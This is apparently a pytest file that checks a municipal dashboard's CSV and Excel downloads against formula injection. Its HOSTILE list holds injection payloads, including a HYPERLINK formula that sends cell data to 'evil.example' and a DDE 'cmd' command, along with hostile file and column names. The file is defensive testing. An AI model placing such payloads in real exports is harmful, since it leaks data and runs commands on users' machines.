"""Downloads never carry a live formula: OWASP's CSV-injection rule on every text cell.

Imported text (a value's source, its note, the file's name) reaches the CSV and Excel
downloads; a cell that starts with = + - @, a tab or a carriage return would be run by Excel
or LibreOffice as a formula or a DDE command."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest
from conftest import COUNTY_DATA

from dashboard.config import REPO_ROOT
from dashboard.data import importer, spreadsheet
from dashboard.ui import export

# The app fixture builds the app, which imports the pages: they register the export builders.
pytestmark = pytest.mark.usefixtures("app")


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-2+3",
    "@x",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["-", "-3", "+1,5", "12,5", "Kommunens enkät", "87 %", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_prefixed(text):
    assert spreadsheet.guard(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(text):
    assert spreadsheet.guard(text) == text


def hostile_table() -> export.ExportTable:
    frame = pd.DataFrame(
        {
            "Kommun": ["Alvesta"] * len(HOSTILE),
            "Källa": HOSTILE,
            "=Rubrik": list(range(len(HOSTILE))),  # a hostile column name too
            "Värde": [-1.5, 2, 3, 4, 5, 6, 7],  # numbers stay numbers
        }
    )
    return export.ExportTable("=Titel", frame, sources=["@källa"], is_example=True)


def csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
            for c in row]  # fmt: skip


def assert_no_live_formula_in_csv(body: bytes) -> None:
    for cell in csv_cells(body):
        assert (
            not cell.startswith(spreadsheet.FORMULA_PREFIXES)
            or cell in ("-",)
            or (spreadsheet.PLAIN_NUMBER.fullmatch(cell))
        ), cell


def assert_no_live_formula_in_xlsx(body: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_csv_download_neutralises_every_prefix():
    body = export.to_csv(hostile_table())
    assert_no_live_formula_in_csv(body)
    cells = csv_cells(body)
    for text in HOSTILE:
        assert "'" + text in cells  # kept readable, only prefixed
    assert "'=Rubrik" in cells and "'=Titel" in cells and "'@källa" in cells
    assert "-1,5" in cells  # a number is written as a number (decimal comma, see export.py)


def test_xlsx_download_neutralises_every_prefix():
    body = export.to_xlsx(hostile_table())
    assert_no_live_formula_in_xlsx(body)
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Data"]
    sources = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # openpyxl's plain XML writer turns a carriage return into a line feed; with lxml (which
    # the report's Word library brings) it is kept. Either way the text is whole and inert.
    assert [s.replace("\r", "\n") for s in sources] == [
        "'" + text.replace("\r", "\n") for text in HOSTILE
    ]
    assert sheet.cell(row=2, column=4).value == -1.5


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    """A copy of the fixture county with one year imported whose sources and file name are
    formulas: imported once for the module, as the import is what takes the time."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    data_dir = tmp_path / "data"
    shutil.copytree(COUNTY_DATA, data_dir, ignore=shutil.ignore_patterns(".historik"))
    codes = ["0760", "0761", "0763", "0764", "0765", "0767", "0780"]
    lines = ["kommunkod;indikator;ar;varde;kalla"]
    for code, source in zip(codes, HOSTILE, strict=True):
        quoted = '"' + source.replace('"', '""') + '"'
        lines.append(f"{code};samordnare;2025;ja;{quoted}")
    upload = tmp_path / "=HYPERLINK(1).csv"
    upload.write_text("\n".join(lines) + "\n", encoding="utf-8")
    importer.run_import(upload, data_dir=data_dir, geo_dir=REPO_ROOT / "geo", user="=1+1",
                        today=date(2026, 3, 1))  # fmt: skip
    return data_dir


@pytest.fixture
def hostile_import(hostile_data, monkeypatch):
    """The app pointed at hostile_data for one test (the loader keeps a dataset per folder)."""
    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(hostile_data))
    return hostile_data


QUERIES = {
    "oversikt": "indikator=samordnare&ar=2025",
    "jamfor": "indikator=samordnare&ar=2025&tabell=matris",
    "kommun": "kod=0760&ar=2025&tabell=nyckeltal",
    "presentera": "ar=2025",
    "strategi": "",
    "uppfoljning": "",
    "verksamhetsplan": "ar=2025",
}


def test_the_views_below_are_every_download():
    # The pages register their downloads when the app is built (the app fixture, above), after
    # the parameters below are collected: this keeps that list complete.
    assert set(export.views()) == set(QUERIES)


@pytest.mark.parametrize("view", sorted(QUERIES))
def test_every_download_of_imported_formulas_is_inert(hostile_import, view, client):
    query = QUERIES.get(view, "")
    csv_response = client.get(f"/nedladdning/{view}.csv?{query}")
    assert csv_response.status_code == 200
    assert_no_live_formula_in_csv(csv_response.data)
    xlsx_response = client.get(f"/nedladdning/{view}.xlsx?{query}")
    assert xlsx_response.status_code == 200
    assert_no_live_formula_in_xlsx(xlsx_response.data)


def test_imported_formula_is_shown_as_text_in_the_overview_download(hostile_import, client):
    text = client.get(f"/nedladdning/oversikt.csv?{QUERIES['oversikt']}").data.decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and "'+SUM(1)" in text
